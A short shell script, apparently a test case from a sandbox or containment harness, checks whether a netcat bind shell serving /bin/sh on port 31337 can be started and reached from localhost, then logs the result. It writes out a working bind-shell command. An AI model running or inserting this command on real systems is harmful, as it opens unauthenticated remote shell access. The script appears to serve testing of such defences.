#!/bin/sh
. /cases/attempt.sh
( timeout 5 nc -l -p 31337 -e /bin/sh ) &
sleep 0.5
answer=$( ( echo 'echo BOUND-$((40+2))'; sleep 0.5; echo exit ) | timeout 3 nc -w 2 127.0.0.1 31337 2>&1 )
attempted bindshell $?
case "$answer" in *BOUND-42*) effect "shell served on 31337" ;; esac
finish
